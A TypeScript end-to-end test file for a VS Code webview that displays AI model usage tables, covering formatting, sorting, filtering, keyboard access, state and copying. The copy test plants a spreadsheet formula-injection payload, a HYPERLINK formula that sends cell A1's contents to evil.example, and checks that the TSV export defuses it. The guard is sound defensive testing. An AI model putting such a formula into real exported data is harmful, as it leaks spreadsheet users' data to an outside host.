/** The usage table in a real Chromium: what it shows, sorting, filtering, expanding, state and copying. */
import * as assert from 'node:assert/strict';
import type { WebviewToHost } from '../../src/shared/protocol';
import { screenshot, startHarness, type Harness, type WebviewPage } from './harness';
import { bodyRows, columnTexts, header, inFileOrder, sortButton, totalRow } from './helpers';
import { modelsRawRows, modelsTable, usersTable } from './tables';

describe('usage table webview', function () {
  let harness: Harness;
  let wv: WebviewPage;
  /** Console errors, page errors and CSP violations of every test, checked by the last test. */
  const problems: string[] = [];

  before(async () => {
    harness = await startHarness();
  });
  after(async () => {
    await harness?.close();
  });
  beforeEach(async () => {
    wv = await harness.open({ theme: 'dark' });
  });
  afterEach(async function () {
    if (this.currentTest?.state === 'failed')
      await screenshot(wv.page, `failed-${this.currentTest.title.replace(/\W+/g, '-')}`);
    problems.push(...(await wv.problems()).map((p) => `${this.currentTest?.title}: ${p}`));
    await wv.close();
  });

  it('says ready, then renders the header line and the per-model totals with formatted numbers', async () => {
    await wv.load(modelsTable());
    await inFileOrder(wv.page);
    const page = wv.page;
    assert.equal(await page.locator('.title').textContent(), 'Model usage');
    const meta = await page.locator('.meta-item').allTextContents();
    assert.deepEqual(meta.slice(0, 4), [
      '2026-11-01 – 2026-11-24 · Europe/Berlin',
      'By source',
      '9 records',
      'api.langdock.com',
    ]);
    assert.equal(meta[4], 'exported 3 minutes ago');
    assert.deepEqual(await page.locator('.actions button').allTextContents(), [
      'Open CSV in Editor',
      'Re-run',
      'Compare with previous period',
      'Save Report…',
      'Copy as Markdown',
      'Copy as TSV',
    ]);
    await page.getByRole('button', { name: 'Save Report…' }).click();
    assert.deepEqual(
      (await wv.posted()).filter((m) => m.type === 'action'),
      [{ type: 'action', action: 'saveReport' }],
      'Save Report… asks the host',
    );
    assert.equal(await page.locator('[role=tab][aria-selected=true]').textContent(), 'Per-model totals');

    const rows = await bodyRows(page);
    assert.equal(rows.length, 6);
    const [gpt, claude, mistral, gemini] = rows;
    assert.deepEqual(gpt.slice(0, 2), ['gpt-4.1', 'openai']);
    assert.equal(gpt[4], '1,750');
    assert.equal(gpt[5], '3,046,000');
    assert.equal(gpt[6], '$12.59');
    assert.equal(gpt[7], '3.5%');
    assert.equal(claude[5], 'n/a');
    assert.equal(mistral[6], 'n/a');
    assert.equal(gemini[4], '45,210');
    assert.equal(gemini[6], '<$0.01', 'money to the cent: a cost below a cent is not $0.00');
    assert.equal(await page.locator('.body .row').nth(3).locator('.cell').nth(6).getAttribute('title'), '$0.0042');
    assert.equal(gemini[7], '90.4%');

    const na = page.locator('.body .row').nth(2).locator('.cell.na').first();
    assert.equal(await na.getAttribute('title'), 'No value in the data');
    assert.equal(await page.locator('.body .row').first().locator('.codicon-check').count(), 1);
    assert.deepEqual((await totalRow(page)).slice(4, 9), ['50,000', '3,046,000', '$43.00', '100%', '$0.86']);

    // Numbers are right-aligned tabular figures in the editor font.
    const style = await page
      .locator('.body .row')
      .first()
      .locator('.cell.num')
      .first()
      .evaluate((c) => {
        const s = getComputedStyle(c);
        return { align: s.justifyContent, figures: s.fontVariantNumeric, font: s.fontFamily };
      });
    assert.deepEqual(style, {
      align: 'flex-end',
      figures: 'tabular-nums',
      font: '"Droid Sans Mono", "monospace", monospace',
    });
    // The primary column's bar: the largest visible value fills the cell.
    const widths = await page
      .locator('.body .row .bar')
      .evaluateAll((bars) => bars.map((b) => (b as HTMLElement).style.width));
    assert.deepEqual(widths.slice(0, 4), ['3.87%', '5.31%', '0.69%', '100%']);
  });

  it('truncates long names with an ellipsis and keeps the full text in the tooltip', async () => {
    await wv.load(modelsTable());
    await inFileOrder(wv.page);
    const cell = wv.page.locator('.body .row').nth(2).locator('.cell').first();
    const full = 'mistral-large-latest-with-a-very-long-deployment-name-that-truncates';
    assert.equal(await cell.getAttribute('title'), full);
    const value = cell.locator('.value');
    const clipped = await value.evaluate((v) => ({
      overflow: getComputedStyle(v).textOverflow,
      cut: v.scrollWidth > v.clientWidth,
    }));
    assert.deepEqual(clipped, { overflow: 'ellipsis', cut: true });
  });

  it('sorts by requests: descending, ascending, the order it opened in; the grand total stays at the bottom', async () => {
    await wv.load(modelsTable());
    const page = wv.page;
    const opening = await columnTexts(page, 'Name');
    await inFileOrder(page);
    const fileOrder = await columnTexts(page, 'Name');
    assert.notDeepEqual(fileOrder, opening, 'the table opens ranked, not in file order');
    await sortButton(page, 'Requests').click();
    assert.deepEqual(await columnTexts(page, 'Requests'), ['45,210', '2,400', '1,750', '310', '300', '30']);
    assert.equal(await header(page, 'Requests').getAttribute('aria-sort'), 'descending');
    await sortButton(page, 'Requests').click();
    assert.deepEqual(await columnTexts(page, 'Requests'), ['30', '300', '310', '1,750', '2,400', '45,210']);
    assert.equal(await header(page, 'Requests').getAttribute('aria-sort'), 'ascending');
    await sortButton(page, 'Requests').click();
    // The third click returns to the ranking the table opened with, not to the file's order.
    assert.deepEqual(await columnTexts(page, 'Name'), opening);
    assert.equal(await header(page, 'Requests').getAttribute('aria-sort'), null);
    assert.equal((await totalRow(page))[0], 'Total');
    // File order is still one click away.
    await inFileOrder(page);
    assert.deepEqual(await columnTexts(page, 'Name'), fileOrder);
  });

  it('sorts by cost numerically with n/a last in both directions', async () => {
    await wv.load(modelsTable());
    await inFileOrder(wv.page);
    const page = wv.page;
    await sortButton(page, 'Cost (USD)').click();
    assert.deepEqual(await columnTexts(page, 'Cost (USD)'), ['$30.10', '$12.59', '$0.20', '$0.10', '<$0.01', 'n/a']);
    await sortButton(page, 'Cost (USD)').click();
    assert.deepEqual(await columnTexts(page, 'Cost (USD)'), ['<$0.01', '$0.10', '$0.20', '$12.59', '$30.10', 'n/a']);
    await sortButton(page, 'Name').click();
    assert.deepEqual((await columnTexts(page, 'Name')).slice(0, 3), [
      'o3-mini',
      'mistral-large-latest-with-a-very-long-deployment-name-that-truncates',
      'gpt-4o-mini',
    ]);
  });

  it('filters rows and recomputes the grand total of what is shown, exactly', async () => {
    await wv.load(modelsTable());
    await inFileOrder(wv.page);
    const page = wv.page;
    await page.locator('.filter-input').fill('openai');
    assert.deepEqual(await columnTexts(page, 'Name'), ['gpt-4.1', 'o3-mini', 'gpt-4o-mini']);
    const total = await totalRow(page);
    assert.equal(total[0], 'Total of 3 shown');
    assert.equal(total[4], '2,080');
    assert.equal(total[6], '$12.89');
    assert.equal(total[7], '4.2%', 'a share of the whole file, recomputed');
    assert.equal(await page.locator('.status').textContent(), '3 of 6 rows');

    await page.locator('.filter-input').fill('mini openai');
    assert.deepEqual(await columnTexts(page, 'Name'), ['o3-mini', 'gpt-4o-mini']);
    const cost = page.locator('.foot .cell').nth(6);
    assert.equal(await cost.textContent(), '$0.30');
    assert.equal(
      await cost.getAttribute('title'),
      null,
      '0.1 + 0.2 is exactly $0.30: no other figure behind the cents',
    );

    await page.locator('.filter-input').fill('zzz');
    assert.equal(await page.locator('.body .row').count(), 0);
    assert.equal(await page.locator('.empty').textContent(), 'No rows match the filter.');
  });

  it('a filter that matches sources shows those parts and totals only them', async () => {
    await wv.load(modelsTable());
    const page = wv.page;
    await page.locator('.filter-input').fill('mobile');
    assert.deepEqual(
      (await bodyRows(page)).map((r) => [r[0], r[2], r[4]]),
      [
        ['gpt-4.1', '', '1,750'],
        ['gpt-4.1', 'MOBILE', '506'],
      ],
    );
    assert.equal((await totalRow(page))[4], '506');
  });

  it('expands and collapses grouped rows with the chevron and the keyboard', async () => {
    await wv.load(modelsTable());
    await inFileOrder(wv.page);
    const page = wv.page;
    const first = page.locator('.body .row[aria-rowindex="2"]');
    assert.equal(await first.getAttribute('aria-expanded'), 'false');
    assert.equal(await page.locator('[role=treegrid]').count(), 1);
    await first.locator('.chevron').click();
    assert.equal(await first.getAttribute('aria-expanded'), 'true');
    assert.deepEqual(
      (await columnTexts(page, 'Source')).slice(0, 4),
      ['', 'WEB', 'MOBILE', 'API'],
      'a grouped row has no source of its own',
    );
    assert.equal(await page.locator('.body .row.child[aria-level="2"]').count(), 3);
    // Children sort with their parent.
    await sortButton(page, 'Requests').click();
    assert.deepEqual((await columnTexts(page, 'Requests')).slice(2, 6), ['1,750', '634', '610', '506']);

    await page.locator('.grid').focus();
    await page.keyboard.press('Home');
    await page.keyboard.press('ArrowDown');
    await page.keyboard.press('ArrowDown');
    assert.equal(await page.locator('#grid-active-row .cell').first().textContent(), 'gpt-4.1');
    await page.keyboard.press('ArrowLeft');
    assert.equal(await page.locator('.body .row.child').count(), 0);
    await page.keyboard.press('Enter');
    assert.equal(await page.locator('.body .row.child').count(), 3);
  });

  it('is usable from the keyboard: Tab order, header buttons, arrow keys with aria-activedescendant', async () => {
    await wv.load(modelsTable());
    const page = wv.page;
    const focused = () =>
      page.evaluate(() => {
        const a = document.activeElement as HTMLElement;
        return a.classList.contains('grid') ? 'grid' : (a.getAttribute('aria-label') ?? a.textContent ?? '').trim();
      });
    // Keyboard focus starts in the page, at its top: a background tab's first Tab press only focuses the document.
    await page.bringToFront();
    await page.evaluate(() => (document.activeElement as HTMLElement | null)?.blur());
    const stops: string[] = [];
    for (let i = 0; i < 12; i++) {
      await page.keyboard.press('Tab');
      stops.push(await focused());
    }
    assert.deepEqual(stops, [
      'Open CSV in Editor',
      'Re-run',
      'Compare with previous period',
      'Save Report…',
      'Copy as Markdown',
      'Copy as TSV',
      'File order',
      'Per-model totals',
      'Filter (model, provider, source…)',
      'Columns…',
      'grid',
      'Name',
    ]);
    // The focus ring is the theme's focusBorder.
    const ring = await page.evaluate(() => getComputedStyle(document.activeElement as HTMLElement).outlineColor);
    assert.equal(ring, 'rgb(0, 120, 212)');

    // Enter and Space on a header button sort.
    await sortButton(page, 'Requests').focus();
    await page.keyboard.press('Enter');
    assert.equal(await header(page, 'Requests').getAttribute('aria-sort'), 'descending');
    await page.keyboard.press('Space');
    assert.equal(await header(page, 'Requests').getAttribute('aria-sort'), 'ascending');

    await page.locator('.grid').focus();
    await page.keyboard.press('ArrowDown');
    await page.keyboard.press('ArrowDown');
    const grid = page.locator('.grid');
    assert.equal(await grid.getAttribute('aria-activedescendant'), 'grid-active-row');
    assert.equal(await page.locator('#grid-active-row').getAttribute('aria-rowindex'), '4');
    assert.equal(await grid.getAttribute('aria-rowcount'), '8');
    await page.keyboard.press('End');
    assert.equal(await page.locator('#grid-active-row').getAttribute('aria-rowindex'), '7');
  });

  it('keeps tab, sort, filter and expanded rows across a reload', async () => {
    await wv.load(modelsTable(), { csvPath: '/exports/models.csv' });
    await inFileOrder(wv.page);
    const page = wv.page;
    await page.locator('.body .row').first().locator('.chevron').click();
    await sortButton(page, 'Cost (USD)').click();
    await page.locator('.filter-input').fill('o');
    await wv.reload();
    await wv.load(modelsTable());
    assert.equal(await page.locator('.filter-input').inputValue(), 'o');
    assert.equal(await header(page, 'Cost (USD)').getAttribute('aria-sort'), 'descending');
    assert.equal(await page.locator('.body .row[aria-expanded="true"]').count(), 1);
    const saved = await page.evaluate(() => JSON.parse(sessionStorage.getItem('vscode-state') ?? 'null'));
    assert.deepEqual(saved, {
      tab: 'totals',
      filter: 'o',
      expanded: ['gpt-4.1\u001fopenai'],
      csvPath: '/exports/models.csv',
      sort: { column: 'total_cost_usd', direction: 'desc' },
    });

    await page.getByRole('tab', { name: 'All rows' }).click();
    await wv.reload();
    await wv.serveRows(modelsRawRows());
    await wv.load(modelsTable());
    assert.equal(await page.locator('[role=tab][aria-selected=true]').textContent(), 'All rows');
  });

  it('copies what is shown as TSV, guarded against formula injection, and as Markdown', async () => {
    const table = modelsTable();
    const [hostile, minus] = [table.totals.rows[4], table.totals.rows[5]];
    hostile.cells[0] = '=HYPERLINK("https://evil.example/?q="&A1,"Click")';
    hostile.cells[1] = '@evil';
    minus.cells[0] = '-2+3';
    minus.cells[1] = 'evil | pipe \t tab';
    minus.cells[6] = '-1.5';
    await wv.load(table);
    const page = wv.page;
    await sortButton(page, 'Requests').click();
    await page.locator('.filter-input').fill('evil');
    await page.getByRole('button', { name: 'Copy as TSV' }).click();
    await page.getByRole('button', { name: 'Copy as Markdown' }).click();
    const copies = (await wv.posted()).filter((m): m is Extract<WebviewToHost, { type: 'copy' }> => m.type === 'copy');
    assert.deepEqual(
      copies.map((c) => c.format),
      ['tsv', 'markdown'],
    );
    assert.deepEqual(copies[0].text.split('\r\n'), [
      'Name\tProvider\tSource\tBYOK\tRequests\tInput tokens\tCost (USD)\tShare of requests\tCost per 1k requests',
      `'=HYPERLINK("https://evil.example/?q="&A1,"Click")\t'@evil\t\tfalse\t300\t\t0.1\t0.006\t0.333333`,
      // A real negative number stays a number; text starting with "-" does not.
      `'-2+3\tevil | pipe   tab\t\tfalse\t30\t\t-1.5\t0.0006\t6.666667`,
      'Total\t\t\t\t330\t\t-1.4\t0.0066\t-4.242424',
      '',
    ]);
    assert.deepEqual(copies[1].text.split('\n'), [
      '| Name | Provider | Source | BYOK | Requests | Input tokens | Cost (USD) | Share of requests | Cost per 1k requests |',
      '| --- | --- | --- | --- | ---: | ---: | ---: | ---: | ---: |',
      '| =HYPERLINK("https://evil.example/?q="&A1,"Click") | @evil | n/a | No | 300 | n/a | $0.10 | 0.6% | $0.333333 |',
      '| -2+3 | evil \\| pipe   tab | n/a | No | 30 | n/a | -$1.50 | 0.1% | $6.666667 |',
      '| Total |  |  |  | 330 | n/a | -$1.40 | 0.7% | -$4.242424 |',
      '',
    ]);
  });

  it('shows a json map as its top 3 with the whole map in the tooltip and on click', async () => {
    await wv.load(usersTable(), { header: { title: 'User usage', fileName: 'users.csv', canRerun: false } });
    const page = wv.page;
    assert.equal(await page.locator('[role=tab][aria-selected=true]').textContent(), 'Per-user totals');
    assert.equal(await page.locator('.actions button', { hasText: 'Re-run' }).count(), 0);
    const cell = page.locator('.body .row').first().locator('.cell').nth(3);
    assert.equal(await cell.textContent(), 'gpt-4.1: 700, claude-sonnet-4: 300, o3-mini: 150, 2 more');
    assert.equal(
      await cell.getAttribute('title'),
      'gpt-4.1: 700\nclaude-sonnet-4: 300\no3-mini: 150\ngemini-2.5-pro: 40\nmistral: 10',
    );
    await cell.click();
    assert.deepEqual(await page.locator('.popover li').allTextContents(), [
      'gpt-4.1: 700',
      'claude-sonnet-4: 300',
      'o3-mini: 150',
      'gemini-2.5-pro: 40',
      'mistral: 10',
    ]);
    await page.keyboard.press('Escape');
    assert.equal(await page.locator('.popover').count(), 0);
    await sortButton(page, 'Messages per model').click();
    assert.deepEqual(await columnTexts(page, 'Name'), ['Ada', 'Grace']);
  });

  it('"All rows" asks the host for pages and sorts once every page is there', async () => {
    const raw = modelsRawRows();
    await wv.serveRows(raw);
    await wv.load(modelsTable());
    const page = wv.page;
    await page.getByRole('tab', { name: 'All rows' }).click();
    await page.waitForFunction(() => !document.querySelector('.body .row.loading'));
    const requests = (await wv.posted()).filter((m) => m.type === 'requestRows');
    assert.deepEqual(requests, [{ type: 'requestRows', requestId: 1, start: 0, count: 5000 }]);
    assert.equal(await page.locator('.body .row').count(), raw.length);
    await sortButton(page, 'Requests').click();
    assert.deepEqual((await columnTexts(page, 'Requests')).slice(0, 3), ['45,210', '2,000', '634']);
    assert.equal((await totalRow(page))[4], '50,000');
    await page.locator('.filter-input').fill('slack');
    assert.deepEqual(await columnTexts(page, 'Requests'), ['400']);
    assert.equal((await totalRow(page))[4], '400');
  });

  it('uses the localized strings and the locale from the load message', async () => {
    await wv.load(modelsTable(), {
      locale: 'de-DE',
      strings: { 'All rows': 'Alle Zeilen', 'Per-model totals': 'Summen je Modell', 'Copy as TSV': 'Als TSV kopieren' },
    });
    await inFileOrder(wv.page);
    const page = wv.page;
    assert.deepEqual(await page.locator('[role=tab]').allTextContents(), ['Summen je Modell', 'Alle Zeilen']);
    assert.equal(await page.locator('.actions button').nth(5).textContent(), 'Als TSV kopieren');
    const gemini = (await bodyRows(page))[3];
    assert.equal(gemini[4], '45.210');
    // Intl puts a (narrow) no-break space before the unit in German.
    assert.equal(gemini[6].replace(/\s/g, ' '), '<0,01 $', 'to the cent');
    assert.equal(gemini[7].replace(/\s/g, ' '), '90,4 %');
  });

  it('logged no console error, page error or CSP violation in any of the tests above', () => {
    assert.deepEqual(problems, []);
  });
});
